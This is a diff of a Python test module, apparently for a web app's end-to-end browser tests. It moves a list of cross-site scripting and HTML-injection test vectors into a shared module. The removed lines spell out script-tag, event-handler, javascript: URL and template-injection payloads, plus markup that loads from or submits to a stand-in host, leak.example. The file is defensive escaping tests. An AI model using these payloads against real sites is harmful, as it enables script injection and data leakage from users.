@@ -21,7 +21,7 @@ from builders import (
     make_scorecard,
     make_support,
 )
-from e2e.browser import browser, page
+from e2e.browser import CALL, VECTORS, browser, page
 from raggate.models.run import LabelledResult, Labels
 from raggate.models.scorecard import Scorecard
 from raggate.models.verdict import Review
@@ -32,25 +32,6 @@ from reviews import baseline_of, beside, regression, review_of, run_of
 
 __all__ = ["browser", "page"]
 
-CALL = "globalThis.ran=1"
-VECTORS = (
-    f"<script>{CALL}</script>",
-    f"</script><script>{CALL}</script>",
-    f"<img src=x onerror={CALL}>",
-    f"<svg onload={CALL}><a href='javascript:{CALL}'>",
-    '"><iframe srcdoc="<script>parent.ran=1</script>">',
-    f"' autofocus onfocus={CALL} x='",
-    f"javascript:{CALL}",
-    f"<!--</script><script>{CALL}//-->",
-    "<meta http-equiv=refresh content='0;url=https://leak.example/'>",
-    "<link rel=stylesheet href=https://leak.example/x.css>",
-    "<style>@import 'https://leak.example/y.css';body{background:url(https://leak.example/z)}</style>",
-    "<base href=https://leak.example/><form action=https://leak.example/><input autofocus>",
-    f"{{{{constructor.constructor('{CALL}')()}}}}${{{CALL}}}",
-    "\u2028\u2029\u202e\u0000\x1b[2J]]>&lt;script&gt;",
-    f"<template><script>{CALL}</script></template><details open ontoggle={CALL}>",
-    f"<math><mtext></p><style><!--</style><img src=x onerror={CALL}>",
-)
 AROUND = ("{}", "a {} b", "</title></textarea>{}", "\\u003c{}", "{}\n{}", '"{}"', "# {} > ## {}", "%3C{}%3E")
 
 
